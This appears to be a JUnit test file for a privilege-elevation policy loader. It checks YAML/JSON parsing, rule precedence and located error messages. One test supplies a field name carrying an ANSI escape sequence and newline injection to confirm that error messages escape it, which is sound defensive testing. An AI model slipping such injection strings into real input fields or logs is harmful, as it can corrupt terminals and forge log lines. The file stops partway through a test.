package dev.jitguard.policy;

import dev.jitguard.rule.ApprovalStage;
import dev.jitguard.rule.AutoApproveCondition;
import dev.jitguard.rule.PrivilegePattern;
import dev.jitguard.rule.PrivilegeRule;
import dev.jitguard.rule.StageMode;
import dev.jitguard.rule.TimeWindow;
import static java.time.DayOfWeek.MONDAY;
import static java.time.DayOfWeek.SATURDAY;
import static java.time.DayOfWeek.TUESDAY;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.jitguard.ElevationRequest;
import dev.jitguard.Privilege;
import dev.jitguard.Subject;
import dev.jitguard.spi.OnCallSource;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalTime;
import java.time.ZoneId;
import java.util.EnumSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.regex.Pattern;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Loading policy documents: the same model as the builder, and errors that say where and how to fix. */
class PolicyDocumentsTest {
  private static final Subject CAROL = Subject.builder("carol").groups("support").attribute("department", "payments")
      .build();

  private final InMemoryOnCallSource onCall = new InMemoryOnCallSource();

  @TempDir
  Path dir;

  // ------------------------------------------------------------------------------------------------ the model

  /** The policy of {@code policies/full.yaml} and {@code policies/full.json}, built in code. */
  static Policy programmatic(OnCallSource source, String version) {
    return Policy.builder()
        .version(version)
        .administratorGroups("secops")
        .administratorSubjects("root-admin")
        .privilege("payments.refund", r -> r
            .eligibleGroups("support")
            .eligibleSubjects("carol")
            .eligibleWhen("department", "payments")
            .denyGroups("contractors")
            .denySubjects("mallory")
            .denyWhen("employment", "contractor")
            .defaultDuration(Duration.ofMinutes(30))
            .maxDuration(Duration.ofHours(1))
            .requireJustification(20)
            .requireTicket()
            .ticketPattern("INC-[0-9]+")
            .autoApprove(AutoApproveCondition.memberOfAny("oncall-sre"))
            .autoApprove(AutoApproveCondition.during(new TimeWindow(EnumSet.of(MONDAY, TUESDAY), LocalTime.of(9, 0),
                LocalTime.of(17, 0), ZoneId.of("Europe/Berlin"))))
            .autoApprove(AutoApproveCondition.allOf(AutoApproveCondition.onCall(source, "primary-sre"),
                AutoApproveCondition.during(new TimeWindow(EnumSet.of(SATURDAY), LocalTime.of(22, 0),
                    LocalTime.of(6, 0), ZoneId.of("UTC")))))
            .stage(new ApprovalStage("team-lead", 1, Set.of("leads"), Set.of()))
            .stage(new ApprovalStage("security", 2, Set.of("secops"), Set.of("erin")))
            .stageMode(StageMode.ANY)
            .denyThreshold(2)
            .requireApproverComment()
            .pendingTtl(Duration.ofHours(4))
            .remindAfter(Duration.ofMinutes(30))
            .escalateAfter(Duration.ofHours(2), "platform-oncall")
            .suggestOnCall("primary-sre")
            .extensionRequiresApproval(false)
            .expiryWarning(Duration.ofMinutes(5))
            .maxUses(10)
            .maxStartDelay(Duration.ofDays(7))
            .breakGlass(40, Duration.ofMinutes(15))
            .denyMessage("Ask in #payments-oncall"))
        .privilege("payments.*", r -> r
            .eligibleGroups("finance")
            .denyGroups("interns")
            .maxDuration(Duration.ofHours(8))
            .approvals(2)
            .approverGroups("payments-leads")
            .approverSubjects("dave"))
        .privilege("logs.read", r -> r
            .eligibleGroups("developers")
            .autoApprove(AutoApproveCondition.always()))
        .build();
  }

  private static final List<String> PRIVILEGES = List.of("payments.refund", "payments.capture",
      "payments.refund.bulk", "logs.read", "logs.write", "db.prod.write");

  static void assertSamePolicy(Policy actual, Policy expected) {
    assertThat(actual.administratorGroups()).isEqualTo(expected.administratorGroups());
    assertThat(actual.administratorSubjects()).isEqualTo(expected.administratorSubjects());
    assertThat(actual.rules().keySet()).containsExactlyElementsOf(expected.rules().keySet());
    expected.rules().forEach((pattern, rule) -> assertSameRule(actual.rules().get(pattern), rule));
    for (String p : PRIVILEGES) {
      Privilege privilege = Privilege.of(p);
      assertThat(actual.ruleFor(privilege).isPresent()).as(p).isEqualTo(expected.ruleFor(privilege).isPresent());
      actual.ruleFor(privilege).ifPresent(r -> assertSameRule(r, expected.ruleFor(privilege).orElseThrow()));
    }
  }

  static void assertSameRule(PrivilegeRule a, PrivilegeRule e) {
    assertThat(a).as("rule for %s", e.pattern()).isNotNull();
    String as = "rule " + e.pattern();
    assertThat(a.pattern()).as(as).isEqualTo(e.pattern());
    assertThat(a.eligibility().subjects()).as(as).isEqualTo(e.eligibility().subjects());
    assertThat(a.eligibility().groups()).as(as).isEqualTo(e.eligibility().groups());
    assertThat(a.eligibility().attributes()).as(as).isEqualTo(e.eligibility().attributes());
    assertThat(a.eligibility().deniedSubjects()).as(as).isEqualTo(e.eligibility().deniedSubjects());
    assertThat(a.eligibility().deniedGroups()).as(as).isEqualTo(e.eligibility().deniedGroups());
    assertThat(a.eligibility().deniedAttributes()).as(as).isEqualTo(e.eligibility().deniedAttributes());
    assertThat(a.limits().defaultDuration()).as(as).isEqualTo(e.limits().defaultDuration());
    assertThat(a.limits().maxDuration()).as(as).isEqualTo(e.limits().maxDuration());
    assertThat(a.limits().minJustificationLength()).as(as).isEqualTo(e.limits().minJustificationLength());
    assertThat(a.limits().ticketRequired()).as(as).isEqualTo(e.limits().ticketRequired());
    assertThat(a.limits().ticketPattern().map(Pattern::pattern)).as(as).isEqualTo(e.limits().ticketPattern().map(Pattern::pattern));
    assertThat(a.approval().autoApprove()).extracting(AutoApproveCondition::description).as(as)
        .containsExactlyElementsOf(e.approval().autoApprove().stream().map(AutoApproveCondition::description).toList());
    assertThat(a.approval().stages()).as(as).isEqualTo(e.approval().stages());
    assertThat(a.approval().stageMode()).as(as).isEqualTo(e.approval().stageMode());
    assertThat(a.approval().approvalsRequired()).as(as).isEqualTo(e.approval().approvalsRequired());
    assertThat(a.approval().denyThreshold()).as(as).isEqualTo(e.approval().denyThreshold());
    assertThat(a.approval().commentRequired()).as(as).isEqualTo(e.approval().commentRequired());
    assertThat(a.approval().pendingTtl()).as(as).isEqualTo(e.approval().pendingTtl());
    assertThat(a.escalation().remindAfter()).as(as).isEqualTo(e.escalation().remindAfter());
    assertThat(a.escalation().escalateAfter()).as(as).isEqualTo(e.escalation().escalateAfter());
    assertThat(a.escalation().groups()).as(as).isEqualTo(e.escalation().groups());
    assertThat(a.approval().extensionRequiresApproval()).as(as).isEqualTo(e.approval().extensionRequiresApproval());
    assertThat(a.limits().expiryWarning()).as(as).isEqualTo(e.limits().expiryWarning());
    assertThat(a.limits().maxUses()).as(as).isEqualTo(e.limits().maxUses());
    assertThat(a.limits().maxStartDelay()).as(as).isEqualTo(e.limits().maxStartDelay());
    assertThat(a.breakGlass()).as(as).isEqualTo(e.breakGlass());
    assertThat(a.denyMessage()).as(as).isEqualTo(e.denyMessage());
    assertThat(a.approval().suggestOnCall()).as(as).isEqualTo(e.approval().suggestOnCall());
  }

  private static String hash12(String resource) throws Exception {
    try (InputStream in = PolicyDocumentsTest.class.getResourceAsStream("/" + resource)) {
      byte[] bytes = Objects.requireNonNull(in, resource).readAllBytes();
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes)).substring(0, 12);
    }
  }

  @Test
  void yamlDocumentWithEveryFeatureEqualsTheProgrammaticPolicy() throws Exception {
    Policy loaded = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.yaml");

    assertSamePolicy(loaded, programmatic(onCall, "v"));
    assertThat(loaded.version()).isEqualTo("2026-11-23#" + hash12("policies/full.yaml"));
  }

  @Test
  void jsonDocumentWithEveryFeatureEqualsTheProgrammaticPolicy() throws Exception {
    Policy loaded = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.json");

    assertSamePolicy(loaded, programmatic(onCall, "v"));
    assertThat(loaded.version()).isEqualTo("2026-11-23#" + hash12("policies/full.json"));
  }

  @Test
  void yamlAndJsonOfTheSamePolicyDifferOnlyInTheContentHash() {
    Policy yaml = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.yaml");
    Policy json = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.json");

    assertSamePolicy(yaml, json);
    assertThat(yaml.version()).startsWith("2026-11-23#").isNotEqualTo(json.version());
  }

  @Test
  void onCallConditionFromDocumentAsksTheLoadersSource() {
    Policy loaded = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.yaml");
    PrivilegeRule refund = loaded.ruleFor(Privilege.of("payments.refund")).orElseThrow();
    ElevationRequest request = ElevationRequest.builder(CAROL, Privilege.of("payments.refund"))
        .justification("INC-1234 refund the duplicate charge").build();
    Instant saturdayNight = Instant.parse("2026-11-28T23:00:00Z");

    assertThat(refund.approval().autoApproval(CAROL, request, saturdayNight)).isEmpty();
    onCall.set("primary-sre", "carol");
    assertThat(refund.approval().autoApproval(CAROL, request, saturdayNight)).map(AutoApproveCondition::description)
        .hasValue("requester is on call for primary-sre and within [SATURDAY] 22:00-06:00 UTC");
  }

  @Test
  void documentWithoutVersionIsVersionedByItsContentHashAlone() {
    String doc = "{\"policies\": {\"logs.read\": {\"eligible\": {\"groups\": [\"dev\"]}, "
        + "\"autoApprove\": [{\"always\": true}]}}}";

    Policy p = PolicyDocuments.parse(doc, "inline.json");

    assertThat(p.version()).matches("[0-9a-f]{12}")
        .isEqualTo(PolicyDocuments.sha256(doc.getBytes(StandardCharsets.UTF_8)).substring(0, 12));
  }

  @Test
  void sameContentGivesSameVersionAndAnyByteChangesIt() {
    String doc = "policies:\n  logs.read:\n    eligible: {groups: [dev]}\n    autoApprove: [{always: true}]\n";

    assertThat(PolicyDocuments.parse(doc, "a.yaml").version())
        .isEqualTo(PolicyDocuments.parse(doc, "b.yaml").version())
        .isNotEqualTo(PolicyDocuments.parse(doc + "# reviewed\n", "a.yaml").version());
  }

  // ------------------------------------------------------------------------------------------------ sources

  @Test
  void loadFromPathPicksTheFormatFromTheExtension() throws IOException {
    Path yaml = dir.resolve("policy.yml");
    Path json = dir.resolve("policy.JSON");
    copyResource("policies/full.yaml", yaml);
    copyResource("policies/full.json", json);

    Policy fromYaml = PolicyDocuments.loader().withOnCallSource(onCall).load(yaml);
    Policy fromJson = PolicyDocuments.loader().withOnCallSource(onCall).load(json);

    assertSamePolicy(fromYaml, programmatic(onCall, "v"));
    assertSamePolicy(fromJson, programmatic(onCall, "v"));
  }

  @Test
  void explicitFormatOverridesTheExtension() throws IOException {
    Path file = dir.resolve("policy.conf");
    copyResource("policies/full.yaml", file);

    Policy p = PolicyDocuments.loader().withOnCallSource(onCall).withFormat(PolicyDocuments.Format.YAML).load(file);

    assertSamePolicy(p, programmatic(onCall, "v"));
  }

  @Test
  void unknownExtensionWithoutExplicitFormatIsRejected() throws IOException {
    Path file = dir.resolve("policy.conf");
    copyResource("policies/full.yaml", file);

    PolicyDocumentException e = rejected(() -> PolicyDocuments.load(file));

    assertThat(e.problems()).singleElement().satisfies(p -> {
      assertThat(p.source()).isEqualTo(file.toString());
      assertThat(p.line()).isZero();
      assertThat(p.message()).contains("cannot tell whether the document is JSON or YAML")
          .contains("name it *.json, *.yaml or *.yml, or set the format with PolicyDocuments.loader().withFormat(..)");
    });
  }

  @Test
  void classpathResourceMayStartWithASlash() {
    Policy p = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("/policies/full.yaml");

    assertThat(p.rules()).containsKey(PrivilegePattern.of("payments.*"));
  }

  @Test
  void missingClasspathResourceIsRejectedWithItsName() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.loadResource("policies/nope.yaml"));

    assertThat(e.problems()).singleElement().satisfies(p -> {
      assertThat(p.source()).isEqualTo("policies/nope.yaml");
      assertThat(p.message()).contains("no such resource on the classpath");
    });
  }

  @Test
  void missingFileIsRejectedWithItsPath() {
    Path file = dir.resolve("absent.yaml");

    PolicyDocumentException e = rejected(() -> PolicyDocuments.load(file));

    assertThat(e.problems()).singleElement().satisfies(p -> {
      assertThat(p.source()).isEqualTo(file.toString());
      assertThat(p.message()).startsWith("does not exist; check the path");
    });
  }

  // ------------------------------------------------------------------------------------------------ prefixes

  @Test
  void prefixRuleGovernsPrivilegesBelowIt() {
    Policy p = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.yaml");

    PrivilegeRule capture = p.ruleFor(Privilege.of("payments.capture")).orElseThrow();

    assertThat(capture.pattern()).isEqualTo(PrivilegePattern.of("payments.*"));
    assertThat(capture.eligibility().lists(Subject.of("fred", "finance"))).isTrue();
    assertThat(capture.approval().approvalsRequired()).isEqualTo(2);
    assertThat(p.ruleFor(Privilege.of("payments"))).as("a prefix covers names below it, not itself").isEmpty();
  }

  @Test
  void exactRuleBeatsPrefixRule() {
    Policy p = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.yaml");

    PrivilegeRule refund = p.ruleFor(Privilege.of("payments.refund")).orElseThrow();

    assertThat(refund.pattern()).isEqualTo(PrivilegePattern.of("payments.refund"));
    assertThat(refund.limits().maxDuration()).isEqualTo(Duration.ofHours(1));
    assertThat(refund.eligibility().lists(Subject.of("fred", "finance"))).isFalse();
  }

  @Test
  void denyOnPrefixRuleAppliesToTheExactRule() {
    Policy p = PolicyDocuments.loader().withOnCallSource(onCall).loadResource("policies/full.yaml");
    Subject intern = Subject.builder("ivy").groups("support", "interns").attribute("department", "payments").build();

    PrivilegeRule refund = p.ruleFor(Privilege.of("payments.refund")).orElseThrow();

    assertThat(refund.eligibility().lists(intern)).isTrue();
    assertThat(refund.eligibility().denies(intern)).isTrue();
    assertThat(refund.eligibility().deniedGroups()).containsExactlyInAnyOrder("contractors", "interns");
  }

  // ------------------------------------------------------------------------------------------------ errors

  private static PolicyDocumentException rejected(ThrowingCallable call) {
    Throwable t = catchThrowable(call);
    assertThat(t).as("expected a PolicyDocumentException").isInstanceOf(PolicyDocumentException.class);
    return (PolicyDocumentException) t;
  }

  private static PolicyDocumentException.Problem only(PolicyDocumentException e) {
    assertThat(e.problems()).as(e.getMessage()).hasSize(1);
    return e.problems().get(0);
  }

  private static void assertProblem(PolicyDocumentException.Problem p, String source, int line, int column,
      String path, String message) {
    assertThat(p.source()).as("source of %s", p).isEqualTo(source);
    assertThat(p.line()).as("line of %s", p).isEqualTo(line);
    assertThat(p.column()).as("column of %s", p).isEqualTo(column);
    assertThat(p.path()).as("path of %s", p).isEqualTo(path);
    assertThat(p.message()).as("message of %s", p).isEqualTo(message);
  }

  private static final String RULE = """
      policies:
        payments.refund:
          eligible: { groups: [support] }
          approval: { groups: [leads] }
      """;

  @Test
  void durationOutOfRangeNamesFileLineColumnPathAndLimit() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE + "    maxDuration: PT-5S\n",
        "policy.yaml"));

    assertThat(only(e)).hasToString("policy.yaml:5:18: policies.payments.refund.maxDuration: must be positive "
        + "and at most PT8784H, but was PT-5S");
    assertThat(e.source()).isEqualTo("policy.yaml");
    assertThat(e.getMessage()).isEqualTo("Policy document policy.yaml has 1 problem; nothing was loaded:\n"
        + "  policy.yaml:5:18: policies.payments.refund.maxDuration: must be positive and at most PT8784H, but was "
        + "PT-5S");
  }

  @Test
  void maxAmountIsReadExactlyFromANumberOrAString() {
    Policy number = PolicyDocuments.parse(RULE + "    maxAmount: 500.10\n", "policy.yaml");
    Policy text = PolicyDocuments.parse(RULE + "    maxAmount: \"0.1\"\n", "policy.yaml");

    assertThat(number.ruleFor(Privilege.of("payments.refund")).orElseThrow().limits().maxAmount())
        .contains(new java.math.BigDecimal("500.10"));
    assertThat(text.ruleFor(Privilege.of("payments.refund")).orElseThrow().limits().maxAmount())
        .contains(new java.math.BigDecimal("0.1"));
  }

  @Test
  void maxAmountThatIsNotAPositiveDecimalIsRejectedWithItsPath() {
    PolicyDocumentException negative = rejected(() -> PolicyDocuments.parse(RULE + "    maxAmount: -5\n",
        "policy.yaml"));
    PolicyDocumentException words = rejected(() -> PolicyDocuments.parse(RULE + "    maxAmount: lots\n",
        "policy.yaml"));
    PolicyDocumentException exponent = rejected(() -> PolicyDocuments.parse(RULE + "    maxAmount: 1e9\n",
        "policy.yaml"));

    assertThat(only(negative)).hasToString("policy.yaml:5:16: policies.payments.refund.maxAmount: must be "
        + "positive, but was -5; give the total the grant may spend, for example 250.00");
    assertProblem(only(words), "policy.yaml", 5, 16, "policies.payments.refund.maxAmount",
        "must be a plain decimal such as 250.00, but was \"lots\"");
    assertThat(only(exponent).path()).isEqualTo("policies.payments.refund.maxAmount");
  }

  @Test
  void durationThatIsNotIso8601IsRejectedWithAnExample() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE + "    maxDuration: 1h\n",
        "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 18, "policies.payments.refund.maxDuration",
        "must be an ISO-8601 duration such as PT30M, PT8H or P1D, but was \"1h\"; write PT1H");
  }

  @Test
  void textWhereAListIsExpectedSuggestsTheList() {
    String doc = """
        policies:
          payments.refund:
            eligible: { groups: support }
            approval: { groups: [leads] }
        """;

    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(doc, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 3, 25, "policies.payments.refund.eligible.groups",
        "must be a list of names, but was the text \"support\"; write it as a list: [\"support\"]");
  }

  @Test
  void badEnumValueListsTheAcceptedValuesAndTheClosest() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            approval:
              groups: [leads]
              mode: all
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 6, 13, "policies.payments.refund.approval.mode",
        "must be one of ALL, ANY, but was \"all\"; did you mean ALL?");
  }

  @Test
  void badWeekdayNamesTheListEntry() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            autoApprove:
              - window: { days: [MONDAY, MONDAI], from: "09:00", to: "17:00", zone: Europe/Berlin }
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 34, "policies.payments.refund.autoApprove[0].window.days[1]",
        "must be one of MONDAY, TUESDAY, WEDNESDAY, THURSDAY, FRIDAY, SATURDAY, SUNDAY, but was \"MONDAI\"; "
            + "did you mean MONDAY?");
  }

  @Test
  void badTimeAndZoneAreEachReported() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            autoApprove:
              - window:
                  days: [MONDAY]
                  from: "9am"
                  to: "17:00"
                  zone: Europe/Berlln
        """, "policy.yaml"));

    assertThat(e.problems()).hasSize(2);
    assertProblem(e.problems().get(0), "policy.yaml", 7, 17, "policies.payments.refund.autoApprove[0].window.from",
        "must be a local time such as \"09:00\" or \"17:30\" (24-hour clock), but was \"9am\"");
    assertProblem(e.problems().get(1), "policy.yaml", 9, 17, "policies.payments.refund.autoApprove[0].window.zone",
        "must be a time zone ID such as \"Europe/Berlin\", \"America/New_York\" or \"UTC\", but was "
            + "\"Europe/Berlln\"");
  }

  @Test
  void numberInQuotesIsAWrongType() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        {"policies": {"payments.refund": {
          "eligible": {"groups": ["support"]},
          "approval": {"approvals": "2", "groups": ["leads"]}}}}
        """, "policy.json"));

    assertProblem(only(e), "policy.json", 3, 29, "policies.payments.refund.approval.approvals",
        "must be a whole number, but was the text \"2\"; remove the quotes");
  }

  @Test
  void booleanAsTextIsAWrongType() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE + "    ticket: { required: yes }\n",
        "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 25, "policies.payments.refund.ticket.required",
        "must be true or false, but was the text \"yes\"; write true or false without quotes");
  }

  @Test
  void unknownFieldSuggestsTheClosestAcceptedName() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE + "    maxDuraton: PT1H\n",
        "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 5, "policies.payments.refund.maxDuraton",
        "unknown field \"maxDuraton\"; did you mean \"maxDuration\"? Accepted fields: eligible, deny, "
            + "defaultDuration, maxDuration, justification, ticket, autoApprove, approval, "
            + "extensionRequiresApproval, expiryWarning, maxUses, maxAmount, maxStartDelay, breakGlass, denyMessage (an unknown "
            + "field is an error so that a typo never silently weakens a rule)");
  }

  @Test
  void unknownTopLevelFieldSuggestsPolicies() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE.replace("policies:", "polices:"),
        "policy.yaml"));

    assertThat(e.problems()).hasSize(2);
    assertThat(e.problems().get(0)).hasToString("policy.yaml:1:1: polices: unknown field \"polices\"; did you mean "
        + "\"policies\"? Accepted fields: version, administrators, policies (an unknown field is an error so that a "
        + "typo never silently weakens a rule)");
    assertProblem(e.problems().get(1), "policy.yaml", 1, 1, "policies",
        "is missing; add the rules, one per privilege or prefix, for example policies: {logs.read: {eligible: "
            + "{groups: [developers]}, approval: {groups: [sre]}}}");
  }

  @Test
  void unknownFieldWithoutCloseNameListsTheAcceptedOnes() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            approval:
              stages:
                - { name: leads, groups: [leads], quorum: 2 }
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 6, 43, "policies.payments.refund.approval.stages[0].quorum",
        "unknown field \"quorum\"; remove it or use one of the accepted fields: name, approvals, groups, subjects "
            + "(an unknown field is an error so that a typo never silently weakens a rule)");
  }

  @Test
  void fieldNamesFromTheDocumentAreEscapedInMessages() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(
        "{\"policies\": {\"logs.read\": {\"eligible\": {\"groups\": [\"dev\"]}, \"autoApprove\": [{\"always\": true}],"
            + " \"x\\u001b[2J\\ninjected\": 1}}}", "policy.json"));

    PolicyDocumentException.Problem p = only(e);
    assertThat(p.path()).isEqualTo("policies.logs.read.x\\u001b[2J\\u000ainjected");
    assertThat(p.message()).startsWith("unknown field \"x\\u001b[2J\\ninjected\"; remove it");
    assertThat(e.getMessage().lines()).hasSize(2);
    assertThat(e.getMessage()).doesNotContain("\u001b");
  }

  @Test
  void duplicateKeyInYamlIsRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE + "    maxDuration: PT1H\n"
        + "    maxDuration: PT8H\n", "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 6, 5, "policies.payments.refund.maxDuration",
        "is defined twice in the same mapping; a second definition would silently replace the first, so keep "
            + "exactly one (merge the two)");
  }

  @Test
  void duplicateKeyInJsonIsRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        {"policies": {"logs.read": {"eligible": {"groups": ["dev"]}, "autoApprove": [{"always": true}]},
                      "logs.read": {"eligible": {"groups": ["everyone"]}, "autoApprove": [{"always": true}]}}}
        """, "policy.json"));

    assertProblem(only(e), "policy.json", 2, 15, "policies.logs.read",
        "is defined twice in the same mapping; a second definition would silently replace the first, so keep "
            + "exactly one (merge the two)");
  }

  @Test
  void emptyDocumentsAreRejected() {
    for (String[] doc : new String[][] {{"", "policy.yaml"}, {"# nothing yet\n", "policy.yaml"},
        {"  \n", "policy.json"}}) {
      PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(doc[0], doc[1]));

      assertProblem(only(e), doc[1], 1, 1, "", "the document is empty; a policy document needs at least "
          + "\"policies\" with one rule, for example {\"policies\": {\"logs.read\": {...}}}");
    }
  }

  @Test
  void documentThatIsNotAMappingIsRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("- logs.read\n", "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 1, 1, "", "the document must be a mapping with the fields version, "
        + "administrators, policies, but was a list");
  }

  @Test
  void emptyPoliciesAreRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("policies: {}\n", "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 1, 1, "policies",
        "lists no rules; add at least one (a policy without rules denies every request)");
  }

  @Test
  void yamlSyntaxErrorHasItsLocation() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support }
        """, "policy.yaml"));

    PolicyDocumentException.Problem p = only(e);
    assertThat(p.source()).isEqualTo("policy.yaml");
    assertThat(p.line()).isEqualTo(3);
    assertThat(p.column()).isEqualTo(34);
    assertThat(p.message()).startsWith("is not well-formed YAML: while parsing a flow sequence: expected ',' or "
        + "']', but got }").endsWith("; fix the syntax at this position (a validator or your editor's YAML mode "
        + "shows the exact spot)");
  }

  @Test
  void jsonSyntaxErrorHasItsLocation() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        {"policies": {
          "logs.read": {"eligible": {"groups": ["dev",]}}
        }}
        """, "policy.json"));

    PolicyDocumentException.Problem p = only(e);
    assertThat(p.line()).isEqualTo(2);
    assertThat(p.column()).isEqualTo(47);
    assertThat(p.path()).isEqualTo("policies.logs.read.eligible");
    assertThat(p.message()).startsWith("is not well-formed JSON: Unexpected character (']' (code 93))");
  }

  @Test
  void secondYamlDocumentIsRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE + "---\n" + RULE, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 6, 1, "", "the file holds more than one YAML document; a policy file "
        + "holds exactly one (remove the \"---\" separator and everything after it, or merge the documents)");
  }

  @Test
  void documentOverOneMebibyteIsRejectedBeforeParsing() throws IOException {
    String big = RULE + "#" + "x".repeat(PolicyDocuments.MAX_BYTES) + "\n";
    Path file = dir.resolve("big.yaml");
    Files.writeString(file, big);

    for (ThrowingCallable load : List.<ThrowingCallable>of(() -> PolicyDocuments.parse(big, "big.yaml"),
        () -> PolicyDocuments.load(file))) {
      PolicyDocumentException.Problem p = only(rejected(load));

      assertThat(p.line()).isZero();
      assertThat(p.path()).isEmpty();
      assertThat(p.message()).startsWith("is larger than the limit of 1048576 bytes (1 MiB)")
          .endsWith("use prefix rules such as payments.* instead of one rule per privilege");
    }
  }

  @Test
  void crossFieldRuleOfTheBuilderIsPlacedAtTheFieldItNames() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            approval:
              groups: [leads]
              pendingTtl: PT1H
              remindAfter: PT2H
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 7, 20, "policies.payments.refund.approval.remindAfter",
        "must be shorter than approval.pendingTtl PT1H, but was PT2H; a reminder after expiry never reaches anyone");
  }

  @Test
  void mixingStagesWithSingleStageApproversIsRejectedAtApproval() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            approval:
              approvals: 1
              groups: [leads]
              stages: [{ name: security, groups: [secops] }]
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 4, 5, "policies.payments.refund.approval",
        "mixes stages with the single-stage settings (approvals, approver groups, approver subjects); move those "
            + "into a stage");
  }

  @Test
  void ruleNobodyMayRequestIsRejectedAtItsName() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            approval: { groups: [leads] }
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 2, 3, "policies.payments.refund.eligible",
        "is empty: nobody could ever request 'payments.refund'; add eligible groups, subjects or attribute "
            + "conditions");
  }

  @Test
  void stageValuesAreValidatedByTheStageAndPlacedAtTheStageField() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            approval:
              stages:
                - { name: team-lead, approvals: 0, groups: [leads] }
                - { name: security }
        """, "policy.yaml"));

    assertThat(e.problems()).hasSize(2);
    assertProblem(e.problems().get(0), "policy.yaml", 6, 41,
        "policies.payments.refund.approval.stages[0].approvals", "must be between 1 and 10, but was 0");
    assertProblem(e.problems().get(1), "policy.yaml", 7, 11, "policies.payments.refund.approval.stages[1]",
        "stage security has no approver groups and no approvers; nobody could ever approve it: add groups or "
            + "subjects");
  }

  @Test
  void breakGlassLimitIsPlacedAtItsField() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE
        + "    breakGlass: { minReasonLength: 40, maxDuration: PT8H }\n", "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 53, "policies.payments.refund.breakGlass.maxDuration",
        "must be positive and at most PT4H, but was PT8H; break-glass access is short by design");
  }

  @Test
  void missingRequiredFieldOfAValueIsNamed() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE
        + "    breakGlass: { maxDuration: PT15M }\n", "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 17, "policies.payments.refund.breakGlass.minReasonLength",
        "is missing; give the minimum length of the emergency reason, for example 40");
  }

  @Test
  void emptyTimeWindowIsPlacedAtWindowTo() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse("""
        policies:
          payments.refund:
            eligible: { groups: [support] }
            autoApprove:
              - window: { days: [MONDAY], from: "09:00", to: "09:00", zone: UTC }
        """, "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 5, 54, "policies.payments.refund.autoApprove[0].window.to",
        "must differ from window.from (09:00); an empty window never matches");
  }

  @Test
  void onCallConditionWithoutASourceIsRejected() {
    PolicyDocumentException e = rejected(() -> PolicyDocuments.parse(RULE.replace("approval: { groups: [leads] }",
        "autoApprove: [{ onCall: primary-sre }]"), "policy.yaml"));

    assertProblem(only(e), "policy.yaml", 4, 29, "policies.payments.refund.autoApprove[0].onCall",
